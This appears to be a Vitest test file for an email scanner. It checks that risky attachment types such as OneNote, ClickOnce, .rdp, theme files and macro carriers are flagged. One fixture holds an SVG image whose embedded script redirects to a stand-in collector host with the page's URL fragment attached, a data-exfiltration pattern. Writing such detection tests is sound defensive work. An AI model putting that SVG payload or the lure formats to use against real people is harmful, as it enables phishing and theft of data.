import { describe, expect, it } from "vitest";
import { attachmentSignals } from "../../../../server/mail/scan/attachments";

async function ids(filename: string, content: Buffer, contentType?: string): Promise<string[]> {
  return (await attachmentSignals([{ filename, content, ...(contentType ? { contentType } : {}) }]))
    .map((s) => s.id)
    .sort();
}

const BYTES = Buffer.from("lure page\r\n");

describe("dangerous attachment types attackers use now", () => {
  it.each([
    ["Invoice.one", "OneNote notebook over an embedded script (2023)"],
    ["Invoice.onepkg", "OneNote package"],
    ["update.jnlp", "Java Web Start"],
    ["Setup.appref-ms", "ClickOnce"],
    ["Teams.appinstaller", "App Installer"],
    ["viewer.xbap", "browser application"],
    ["AWS Secure Storage.rdp", "Remote Desktop connection (2024)"],
    ["patch.msu", "update package"],
    ["sandbox.wsb", "Windows Sandbox configuration"],
    ["Portal.website", "pinned site"],
    ["Aero.theme", "theme (CVE-2023-38146)"],
    ["Aero.themepack", "theme pack"],
  ])("flags %s as a program (%s)", async (name) => {
    expect(await ids(name, BYTES)).toEqual(["attachment.executable"]);
  });

  it.each([["profile.psc1"], ["session.pssc"]])("flags %s as a script", async (name) => {
    expect(await ids(name, BYTES)).toEqual(["attachment.script"]);
  });

  it.each([["Book1.xlm"], ["addin.xla"], ["addin.ppa"], ["export.slk"], ["prices.iqy"], ["plan.vsdm"]])(
    "flags %s as a macro carrier",
    async (name) => {
      expect(await ids(name, BYTES)).toEqual(["attachment.macro"]);
    },
  );

  it("flags OneNote and Java Web Start by their declared type under another name", async () => {
    expect(await ids("notes.dat", BYTES, "application/onenote")).toEqual(["attachment.executable"]);
    expect(await ids("launch.dat", BYTES, "application/x-java-jnlp-file")).toEqual(["attachment.executable"]);
  });

  it("flags an SVG image that runs script, but not a plain one", async () => {
    // Script that no smuggling or hidden-code pattern names: an image has no use for script at all.
    const svg = `<svg xmlns="http://www.w3.org/2000/svg"><script>top.location.replace("https://collector.example/?e=" + location.hash)</script></svg>`;
    expect(await ids("Voicemail.svg", Buffer.from(svg), "image/svg+xml")).toEqual(["attachment.script"]);
    const plain = `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10" fill="#0a0"/></svg>`;
    expect(await ids("logo.svg", Buffer.from(plain), "image/svg+xml")).toEqual([]);
  });

  it("does not flag a .mjs module or an ordinary web page with script", async () => {
    // Windows runs no .mjs on a double-click (Windows Script Host takes .js and .jse only): it is a developer's file.
    expect(await ids("build.mjs", Buffer.from("export const a = 1;\n"))).toEqual([]);
    const page = "<html><body><script>document.title = 'Agenda'</script><p>Agenda</p></body></html>";
    expect(await ids("agenda.html", Buffer.from(page))).toEqual([]);
  });
});
